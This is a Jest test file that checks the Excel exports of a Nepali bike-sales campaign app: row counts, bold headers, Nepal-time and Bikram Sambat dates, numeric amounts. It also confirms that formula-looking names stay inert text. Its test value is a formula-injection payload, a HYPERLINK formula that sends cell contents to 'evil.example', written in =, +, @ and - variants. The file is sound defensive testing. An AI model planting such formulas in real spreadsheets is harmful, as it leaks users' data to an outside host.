import { adToBs } from '@campaign/domain';
import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { binaryParser } from './factories/authz';
import { bikeModelId, branchIds, makePreregistration, registrationBody, uniquePhone } from './factories/purchase';
import { startTestApp, TestApp } from './harness/test-app';

/**
 * The four downloads, each opened with exceljs's reader: one data row per row of the table, a
 * bold header, a name that looks like a formula (a customer's '=HYPERLINK(...)', '+977...',
 * '@...' typed into a form or imported) kept as text, dates as date cells, amounts as numbers.
 */
describe('exports as workbooks', () => {
  let t: TestApp;
  let admin: string;
  let A: number;
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

  beforeAll(async () => {
    t = await startTestApp();
    [A] = await branchIds(t.db);
    admin = `Bearer ${await t.token('admin@example.com')}`;
    const staff = `Bearer ${await t.token('staff@example.com')}`;
    const model = await bikeModelId(t.db);

    // A pre-registration whose name looks like a formula, and one that was bought.
    const pre = await makePreregistration(t.db, { branchId: A, name: 'Formula Customer', prize: 5000 });
    await t.db.query(`UPDATE preregistration SET name = $2, created_at = '2026-11-10T18:16:00Z' WHERE id = $1`, [pre.id, FORMULA]);
    const bought = await makePreregistration(t.db, { branchId: A, name: 'Buying Customer', prize: 3000 });
    const sale = await t.http().post('/api/v1/registration').set('Authorization', staff).send(registrationBody(bought, model, { bill_no: 'X-1' }));
    expect(sale.status).toBe(200);
    await t.db.query(`UPDATE registration SET name = $2, coupon_amount = 1500, created_at = '2026-11-10T18:16:00Z' WHERE slug = $1`, [
      sale.body.data.slug,
      `+${FORMULA.slice(1)}`,
    ]);

    await t.db.query(
      `INSERT INTO test_ride (slug, name, phone, state, district, city, branch_id, bike_model_id, created_at)
       SELECT $1, $2, $3, state, district, city, id, $4, '2026-11-10T18:16:00Z' FROM branch WHERE id = $5`,
      [randomBytes(12).toString('base64url'), `@${FORMULA.slice(1)}`, uniquePhone(), model, A],
    );
    await t.db.query(`UPDATE branch SET location = $2 WHERE id = $1`, [A, `-${FORMULA.slice(1)}`]);
  });
  afterAll(() => t.close());

  async function sheetOf(path: string) {
    const res = await t.http().get(`/api/v1${path}`).set('Authorization', admin).buffer(true).parse(binaryParser as never);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never);
    return wb.worksheets[0];
  }

  async function tableCount(path: string): Promise<number> {
    const res = await t.http().get(`/api/v1${path}`).query({ length: 1 }).set('Authorization', admin);
    expect(res.status).toBe(200);
    return res.body.recordsFiltered;
  }

  /** The header's texts, and the cells of the first data row whose `column` holds `text`. */
  function find(sheet: ExcelJS.Worksheet, column: string, text: string) {
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const index = header.indexOf(column) + 1;
    expect(index).toBeGreaterThan(0);
    let found: ExcelJS.Row | undefined;
    sheet.eachRow((row, n) => {
      if (n > 1 && !found && row.getCell(index).value === text) found = row;
    });
    expect(found).toBeDefined();
    return { header, cell: (name: string) => found!.getCell(header.indexOf(name) + 1) };
  }

  function expectText(cell: ExcelJS.Cell, text: string) {
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(text);
    expect(cell.formula).toBeUndefined();
    expect(cell.numFmt).toBe('@');
  }

  it.each([
    ['Preregistrations.xlsx', '/preregistration/download', '/preregistration'],
    ['Registrations.xlsx', '/registration/download', '/registration'],
    ['TestRides.xlsx', '/test-ride/download', '/test-ride'],
    ['Branches.xlsx', '/branch/export', '/branch'],
  ])('%s has one data row per row of the table and a bold header', async (_file, download, table) => {
    const sheet = await sheetOf(download);
    const rows = sheet.rowCount - 1;
    expect(rows).toBeGreaterThan(0);
    expect(rows).toBe(await tableCount(table));
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.getRow(2).getCell(1).font?.bold).toBeFalsy();
  });

  it('keeps a formula-looking pre-registration name as text, the date as a date cell in Nepal time and the prize as a number', async () => {
    const { cell } = find(await sheetOf('/preregistration/download'), 'Name', FORMULA);
    expectText(cell('Name'), FORMULA);
    // 18:16 UTC is 00:01 the next day in Kathmandu: the cell is that wall-clock time.
    expect(cell('Registered (Nepal time)').value).toEqual(new Date('2026-11-11T00:01:00Z'));
    expect(cell('Registered (Nepal time)').numFmt).toBe('yyyy-mm-dd hh:mm');
    // Beside it, the same Nepal day in Bikram Sambat: 11 November 2026 is 25 Kartik 2083.
    expect(cell('Registered (BS)').value).toBe('2083-07-25');
    expect(cell('Register Prize').value).toBe(5000);
  });

  it.each([
    ['/preregistration/download', 'Registered (Nepal time)'],
    ['/registration/download', 'Registered'],
    ['/test-ride/download', 'Registered'],
  ])('%s: every BS day is the BS of the AD date beside it', async (download, column) => {
    const sheet = await sheetOf(download);
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const ad = header.indexOf(column) + 1;
    const bs = header.indexOf('Registered (BS)') + 1;
    expect(bs).toBe(ad + 1);
    const mismatched: string[] = [];
    let rows = 0;
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      rows++;
      const at = row.getCell(ad).value as Date;
      // The AD cell is the Nepal wall-clock time written as a zone-less date: its UTC day is the Nepal day.
      const expected = adToBs(at.toISOString().slice(0, 10));
      if (row.getCell(bs).value !== expected) mismatched.push(`${at.toISOString()} -> ${String(row.getCell(bs).value)}`);
    });
    expect(rows).toBeGreaterThan(0);
    expect(mismatched).toEqual([]);
  });

  it('keeps a formula-looking purchase name as text, with amounts as numbers and the date as a date cell', async () => {
    const text = `+${FORMULA.slice(1)}`;
    const { cell } = find(await sheetOf('/registration/download'), 'Name', text);
    expectText(cell('Name'), text);
    expect(cell('Registered').value).toEqual(new Date('2026-11-11T00:01:00Z'));
    expect(cell('Registered (BS)').value).toBe('2083-07-25');
    expect([cell('Register Prize').value, cell('Buy Prize').value, cell('Total Prize').value]).toEqual([3000, 1500, 4500]);
  });

  it('keeps a formula-looking test-ride name as text, with the date as a date cell', async () => {
    const text = `@${FORMULA.slice(1)}`;
    const { cell } = find(await sheetOf('/test-ride/download'), 'Name', text);
    expectText(cell('Name'), text);
    expect(cell('Registered').value).toEqual(new Date('2026-11-11T00:01:00Z'));
  });

  it('keeps a formula-looking branch location as text, with total sales as a number', async () => {
    const text = `-${FORMULA.slice(1)}`;
    const { cell } = find(await sheetOf('/branch/export'), 'Location', text);
    expectText(cell('Location'), text);
    expect(cell('Total Sales').value).toBe(1);
  });
});
